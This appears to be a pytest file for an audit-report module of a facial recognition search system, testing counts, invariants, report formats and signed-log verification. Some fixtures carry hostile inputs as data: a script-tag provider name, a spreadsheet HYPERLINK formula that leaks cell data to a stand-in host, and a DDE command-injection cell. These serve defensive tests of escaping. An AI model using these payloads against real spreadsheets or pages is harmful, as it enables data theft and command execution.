"""Accountability report and invariants over a store filled through the real codec."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from schemas.envelope import decode, encode
from schemas.events import (
    ClearedProvider,
    Event,
    ImagePurged,
    Invariant,
    PolicyCleared,
    PolicyDenied,
    ProbeRejected,
    ProbeSubmitted,
    ProviderDenial,
    ProviderDispatched,
    ProviderRecord,
    PurgeReason,
    RegistryVersions,
    RejectReason,
    RuleDenial,
    UsageAlert,
    UsageReason,
    UsageRule,
    usage_alert_id,
)
from schemas.types import ImageSource, OutboundField, Purpose, Transport
from services.audit import handlers
from services.audit.invariants import Invariants, InvariantSettings
from services.audit.report import build_report
from services.audit.store import AuditLog, AuditStore
from services.cli.entry import main as frs
from tests.unit.fakes import FakeClock

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
D = "0" * 64
FIELDS = list(OutboundField)


def submitted(pid: str, purpose: Purpose) -> ProbeSubmitted:
    return ProbeSubmitted(probe_id=pid, request_id=f"r-{pid}", case_id="C-1", agent_id="a-1",
                          purpose=purpose, roi_refs=["ROI-1"],
                          image_source=ImageSource.SURVEILLANCE, nexus=["VA"], exigent=False,
                          unedited_attestation=True, vault_ref=f"v/{pid}", image_format="jpeg",
                          received_sha256=D, sanitized_sha256=D,
                          expires_at=T0 + timedelta(hours=1), submitted_at=T0)


def dispatched(pid: str, provider: str, at: datetime = T0) -> ProviderDispatched:
    return ProviderDispatched(probe_id=pid, provider_id=provider, dispatch_id=f"d-{pid}",
                              transport=Transport.HTTPS, fields_sent=FIELDS,
                              request_ref="ref", sent_at=at, response_due_at=at,
                              deletion_due_at=at)


def provider(pid: str, kind: str) -> ProviderRecord:
    return ProviderRecord(provider_id=pid, name=pid.upper(), kind=kind,
                          transport=Transport.HTTPS, endpoint="https://x", updated_at=T0)


def cleared(pid: str, *providers: str) -> PolicyCleared:
    return PolicyCleared(probe_id=pid, case_id="C-1",
                         cleared=[ClearedProvider(provider_id=p, transport=Transport.HTTPS,
                                                  fields=FIELDS) for p in providers],
                         denied=[ProviderDenial(provider_id="state-md", rules=[
                             RuleDenial(rule_id="nexus", message="no nexus")])],
                         policy_digest=D, registry_versions=RegistryVersions(), decided_at=T0)


def feed(store: AuditLog, inv: Invariants, events: list[Event]) -> list[Invariant]:
    found = []
    for i, event in enumerate(events):
        rec = encode(event, "/frs/test", time=T0)
        env = decode(rec.headers, rec.key, rec.value)
        out = asyncio.run(handlers.on_record(f"frs.t.{type(event).__name__}", 0,
                                             store.size + i, rec.value, env,
                                             handlers.AuditPorts(store, inv), rec.headers))
        found += [v.invariant for v in out]  # type: ignore[attr-defined]
    store.commit()
    return found


@pytest.fixture
def store(tmp_path: Path) -> AuditStore:
    return AuditStore(tmp_path / "audit")


def test_report_counts_searches_kinds_purposes_denials_and_purges(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    clock = FakeClock(T0)
    inv = Invariants(store, InvariantSettings(30, 60), clock)
    feed(store, inv, [
        provider("fed-ngi", "federal"), provider("state-va", "state_local"),
        provider("acme", "commercial"),
        submitted("p1", Purpose.HUMAN_TRAFFICKING), submitted("p2", Purpose.FINANCIAL_FRAUD),
        cleared("p1", "fed-ngi", "state-va"), cleared("p2", "acme"),
        dispatched("p1", "fed-ngi"), dispatched("p1", "state-va"), dispatched("p2", "acme"),
        PolicyDenied(probe_id="p3", case_id="C-1", denied=[ProviderDenial(
            provider_id="fed-ngi", rules=[RuleDenial(rule_id="training", message="x")])],
            policy_digest=D, registry_versions=RegistryVersions(), decided_at=T0),
        ImagePurged(probe_id="p1", vault_ref="v/p1", reason=PurgeReason.EXPIRED,
                    expires_at=T0, purged_at=T0 + timedelta(seconds=5)),
        ImagePurged(probe_id="p2", vault_ref="v/p2", reason=PurgeReason.EXPIRED,
                    expires_at=T0, purged_at=T0 + timedelta(seconds=500)),
    ])
    # A forged dispatch record the models refuse is a finding, not a search.
    from schemas.envelope import DecodeError
    out = asyncio.run(handlers.on_record(
        "frs.dispatch.events", 0, 999, b'{"fields_sent":["dna"]}',
        DecodeError("invalid_event", "x"), handlers.AuditPorts(store, inv),
        [("ce_type", ProviderDispatched.TYPE.encode()), ("ce_id", b"forged-1")]))
    assert [v.invariant for v in out] == [Invariant.EXTRA_FIELDS_SENT]  # type: ignore[attr-defined]
    store.commit()
    store.close()
    code = frs(["audit", "report", "--json", "--store", str(tmp_path / "audit"),
                "--late-after", "60"])
    r = json.loads(capsys.readouterr().out)
    assert code == 0
    assert r["searches"]["total"] == 3
    assert r["searches"]["by_provider_kind"] == {"federal": 1, "state_local": 1,
                                                 "commercial": 1}
    assert r["searches"]["non_federal_systems_used"] == ["acme", "state-va"]
    assert r["probes"]["by_purpose"] == {"human_trafficking": 1, "financial_fraud": 1}
    assert r["denials_by_rule"] == {"nexus": 2, "training": 1}
    assert r["purge_timeliness"]["expired_purges_on_time"] == 1
    assert r["purge_timeliness"]["expired_purges_late"] == 1
    assert r["purge_timeliness"]["max_late_s"] == 500
    assert r["violations"] == {}  # the violation event itself was not published here
    later = build_report(tmp_path / "audit", since=T0 + timedelta(days=1))
    assert later["searches"]["total"] == 0


def test_invariants_fire_once_and_not_for_redelivered_records(store: AuditStore) -> None:
    clock = FakeClock(T0)
    inv = Invariants(store, InvariantSettings(clearance_grace_s=30, expiry_grace_s=60), clock)
    assert feed(store, inv, [dispatched("p1", "fed-ngi")]) == []
    clock.now = T0 + timedelta(seconds=31)
    assert [v.invariant for v in inv.tick()] == [Invariant.DISPATCH_WITHOUT_CLEARANCE]
    assert inv.tick() == []
    # Same coordinates again (a redelivery): no leaf, no second evaluation.
    rec = encode(dispatched("p1", "fed-ngi"), "/frs/test")
    env = decode(rec.headers, rec.key, rec.value)
    out = asyncio.run(handlers.on_record("frs.t.ProviderDispatched", 0, 0, rec.value, env,
                                         handlers.AuditPorts(store, inv), rec.headers))
    assert out == [] and store.size == 1
    # Expiry: an hour after submission plus the grace, unless purged.
    feed(store, inv, [submitted("p2", Purpose.FINANCIAL_FRAUD),
                      submitted("p3", Purpose.FINANCIAL_FRAUD),
                      ImagePurged(probe_id="p3", vault_ref="v", reason=PurgeReason.EXPIRED,
                                  expires_at=T0, purged_at=T0)])
    clock.now = T0 + timedelta(hours=1, seconds=30)
    assert inv.tick() == []
    clock.now = T0 + timedelta(hours=1, seconds=61)
    assert [(v.invariant, v.probe_id) for v in inv.tick()] == [
        (Invariant.IMAGE_PAST_EXPIRY, "p2")]


def test_html_and_csv_reports_are_self_contained(store: AuditStore, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    clock = FakeClock(T0)
    inv = Invariants(store, InvariantSettings(30, 60), clock)
    hostile = provider("acme", "commercial").model_copy(update={"name": "Acme <script>"})
    feed(store, inv, [hostile, submitted("p1", Purpose.HUMAN_TRAFFICKING),
                      cleared("p1", "acme"), dispatched("p1", "acme")])
    store.close()
    html = tmp_path / "r.html"
    assert frs(["audit", "report", "--format", "html", "--out", str(html),
                "--store", str(tmp_path / "audit")]) == 0
    page = html.read_text()
    assert page.startswith("<!doctype html>") and "<svg" in page
    assert "Acme &lt;script&gt;" in page and "<script>" not in page
    assert "http://" not in page and "https://" not in page  # nothing fetched
    assert frs(["audit", "report", "--format", "csv", "--store", str(tmp_path / "audit")]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert rows[0] == "metric,value"
    assert "searches.by_provider_kind.commercial,1" in rows


def rejected(pid: str, reason: RejectReason) -> ProbeRejected:
    return ProbeRejected(probe_id=pid, request_id=f"r-{pid}", reason=reason, detail="x",
                         rejected_at=T0)


def report(directory: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert frs(["audit", "report", "--store", str(directory), *args]) == 0
    return capsys.readouterr().out


FORMATS = ("text", "json", "csv", "html")


def test_rejections_are_counted_by_reason_in_every_format(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    reasons = [RejectReason.TOO_BLURRED] * 2 + [RejectReason.NO_FACE] * 3 + \
        [RejectReason.POLYGLOT]
    feed(store, inv, [rejected(f"x{i}", r) for i, r in enumerate(reasons)])
    store.close()
    directory = tmp_path / "audit"
    r = json.loads(report(directory, capsys, "--json"))
    assert r["probes"]["rejected"] == 6
    assert r["rejections_by_reason"] == {"no_face": 3, "too_blurred": 2, "polyglot": 1}
    assert list(r["rejections_by_reason"]) == ["no_face", "too_blurred", "polyglot"]
    assert "rejections by reason: no_face 3, too_blurred 2, polyglot 1" in \
        report(directory, capsys).splitlines()
    rows = list(csv.reader(report(directory, capsys, "--format", "csv").splitlines()))
    assert ["rejections_by_reason.no_face", "3"] in rows
    assert ["rejections_by_reason.too_blurred", "2"] in rows
    assert ["rejections_by_reason.polyglot", "1"] in rows
    page = report(directory, capsys, "--format", "html")
    section = page.split("<h2>Rejections by reason</h2>", 1)[1].split("<h2>", 1)[0]
    for reason, count in (("no_face", 3), ("too_blurred", 2), ("polyglot", 1)):
        assert f"<div class=label>{reason}</div>" in section
        assert f"<div class=value>{count}</div>" in section


def alert(rule: UsageRule, subject: str) -> UsageAlert:
    start, end = T0, T0 + timedelta(hours=1)
    return UsageAlert(alert_id=usage_alert_id(rule, subject, start, end), rule=rule,
                      reason=UsageReason.COUNT_OVER_LIMIT, subject_kind="agent",
                      subject=subject, window_start=start, window_end=end, count=4,
                      threshold=3, evidence_ids=["ev-1"], observed_at=T0)


def test_usage_alerts_are_counted_by_rule_and_id_in_every_format(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    hour = [alert(UsageRule.SEARCHES_PER_HOUR, f"a-{i}") for i in range(2)]
    exigent = alert(UsageRule.EXIGENT_PER_WEEK, "a-9")
    # The first alert again (a republish after a crash, under a record of its own): it is
    # the same alert, counted once.
    feed(store, inv, [*hour, exigent, hour[0]])
    store.close()
    directory = tmp_path / "audit"
    r = json.loads(report(directory, capsys, "--json"))
    hour_ids = sorted(a.alert_id for a in hour)
    assert r["usage_alerts"] == {
        "total": 3, "by_rule": {"searches_per_hour": 2, "exigent_per_week": 1},
        "alert_ids": {"exigent_per_week": [exigent.alert_id], "searches_per_hour": hour_ids}}
    text = report(directory, capsys).splitlines()
    assert "usage alerts: 3; by rule: searches_per_hour 2, exigent_per_week 1" in text
    assert f"  searches_per_hour: {', '.join(hour_ids)}" in text
    rows = list(csv.reader(report(directory, capsys, "--format", "csv").splitlines()))
    assert ["usage_alerts.total", "3"] in rows
    assert ["usage_alerts.by_rule.searches_per_hour", "2"] in rows
    assert ["usage_alerts.alert_ids.searches_per_hour", ";".join(hour_ids)] in rows
    page = report(directory, capsys, "--format", "html")
    section = page.split("<h2>Usage alerts by rule</h2>", 1)[1].split("<h2>", 1)[0]
    assert "<div class=label>searches_per_hour</div><svg" in section
    assert "<div class=value>2</div>" in section
    ids = page.split("<h2>Usage alert ids</h2>", 1)[1]
    assert all(i in ids for i in [*hour_ids, exigent.alert_id])


def test_a_report_without_alerts_says_none(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    feed(store, inv, [submitted("p1", Purpose.FINANCIAL_FRAUD)])
    store.close()
    r = json.loads(report(tmp_path / "audit", capsys, "--json"))
    assert r["usage_alerts"] == {"total": 0, "by_rule": {}, "alert_ids": {}}
    assert "usage alerts: 0; by rule: none" in report(tmp_path / "audit", capsys)
    assert "<h2>Usage alert ids</h2>\n<p class=none>none</p>" in report(
        tmp_path / "audit", capsys, "--format", "html")


@pytest.mark.parametrize(("window", "words", "machine"), [
    ((), "all events in the log (no window given)", (None, None)),
    (("--from", "2026-03-01", "--to", "2026-03-02T13:00"),
     "from 2026-03-01 00:00 UTC to 2026-03-02 13:00 UTC",
     ("2026-03-01T00:00:00+00:00", "2026-03-02T13:00:00+00:00")),
    (("--from", "2026-03-01T02:00:30+02:00"), "since 2026-03-01 00:00:30 UTC",
     ("2026-03-01T00:00:30+00:00", None)),
    (("--to", "2026-03-02"), "until 2026-03-02 00:00 UTC", (None, "2026-03-02T00:00:00+00:00")),
])
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_says_its_window_in_words(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str,
        window: tuple[str, ...], words: str, machine: tuple[str | None, str | None]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    feed(store, inv, [submitted("p1", Purpose.FINANCIAL_FRAUD)])  # at T0, inside each window
    store.close()
    out = report(tmp_path / "audit", capsys, "--format", fmt, *window)
    assert words in out
    assert "- .. -" not in out and " .. " not in out
    if fmt == "json":
        r = json.loads(out)
        assert r["window"] == {"from": machine[0], "to": machine[1], "description": words}
        assert r["probes"]["submitted"] == 1
    if fmt == "text":
        assert out.splitlines()[0].endswith(f"window: {words}")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    hostile = {"p-eq": '=HYPERLINK("http://x.example/?"&A1,"open")',
               "p-plus": "+1+cmd|' /C calc'!A0", "p-minus": "-1", "p-at": "@SUM(A1:A9)",
               "p-tab": "\t=1+1", "p-cr": "\r=1+1", "p-ok": "Plain Name",
               "p-mid": "Acme\r=1+1"}  # a CR inside a cell must not start a row
    events: list[Event] = [submitted("p1", Purpose.FINANCIAL_FRAUD)]
    for pid, name in hostile.items():
        events += [provider(pid, "commercial").model_copy(update={"name": name}),
                   dispatched("p1", pid)]
    # Purged before its expiry: a genuinely negative number, which must stay a number.
    events.append(ImagePurged(probe_id="p1", vault_ref="v/p1", reason=PurgeReason.EXPIRED,
                              expires_at=T0, purged_at=T0 - timedelta(seconds=5)))
    feed(store, inv, events)
    store.close()
    out = report(tmp_path / "audit", capsys, "--format", "csv")
    rows = dict(csv.reader(io.StringIO(out, newline="")))  # a quoted cell may hold a CR
    for pid, name in hostile.items():
        cell = rows[f"searches.by_provider[{pid}].name"]
        assert cell == (name if pid in ("p-ok", "p-mid") else "'" + name)
    assert rows["purge_timeliness.max_late_s"] == "-5.0"
    for metric, value in rows.items():
        for cell in (metric, value):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-5.0", cell


def test_html_lays_out_long_labels_whole(store: AuditStore, tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
    name = ("Northern Virginia Regional Multi-Jurisdictional Biometric Identification and "
            "Facial Comparison Consortium Services LLC & Partners")
    name = (name * 2)[:120]
    pid = "long-" + "x" * 120  # no space to break at
    feed(store, inv, [provider(pid, "commercial").model_copy(update={"name": name}),
                      submitted("p1", Purpose.HUMAN_TRAFFICKING), dispatched("p1", pid),
                      rejected("x1", RejectReason.NOT_ATTESTED_UNEDITED)])
    store.close()
    page = report(tmp_path / "audit", capsys, "--format", "html")
    label = f"<div class=label>{pid} {name.replace('&', '&amp;')} (commercial)</div>"
    assert label in page
    assert "<div class=label>not_attested_unedited</div>" in page
    # Labels are HTML in a grid column that sizes to them and wraps: SVG text cannot.
    assert "<text" not in page
    assert "grid-template-columns: fit-content(" in page
    assert ".bars .label { text-align: right; overflow-wrap: anywhere; }" in page
    assert "overflow: hidden" not in page and "text-overflow" not in page


def test_a_handler_failing_halfway_leaves_no_trace_and_the_retry_succeeds(
        store: AuditStore, tmp_path: Path) -> None:
    class Flaky(Invariants):
        fail = False

        def observe(self, *args, **kwargs):  # type: ignore[no-untyped-def]
            out = super().observe(*args, **kwargs)
            if Flaky.fail:
                Flaky.fail = False
                raise RuntimeError("transient")
            return out

    clock = FakeClock(T0)
    inv = Flaky(store, InvariantSettings(0, 60), clock)
    feed(store, inv, [submitted("p0", Purpose.FINANCIAL_FRAUD)])
    rec = encode(dispatched("p1", "fed-ngi"), "/frs/test", time=T0)
    env = decode(rec.headers, rec.key, rec.value)
    ports = handlers.AuditPorts(store, inv)
    Flaky.fail = True
    with pytest.raises(RuntimeError):
        asyncio.run(handlers.on_record("frs.dispatch.events", 0, 5, rec.value, env, ports,
                                       rec.headers))
    assert store.size == 1 and store.frontier.size == 1
    assert asyncio.run(handlers.on_record("frs.dispatch.events", 0, 5, rec.value, env, ports,
                                          rec.headers)) == []
    store.commit()
    clock.now = T0 + timedelta(seconds=1)
    assert [v.invariant for v in inv.tick()] == [Invariant.DISPATCH_WITHOUT_CLEARANCE]
    store.commit()
    store.close()
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from services.audit.checkpoint import Signer, Verifier
    from services.audit.verify import verify_store
    signer = Signer("t", Ed25519PrivateKey.generate())
    report = verify_store(tmp_path / "audit", Verifier.parse(signer.verifier_key))
    assert report.ok and report.tree_size == 2
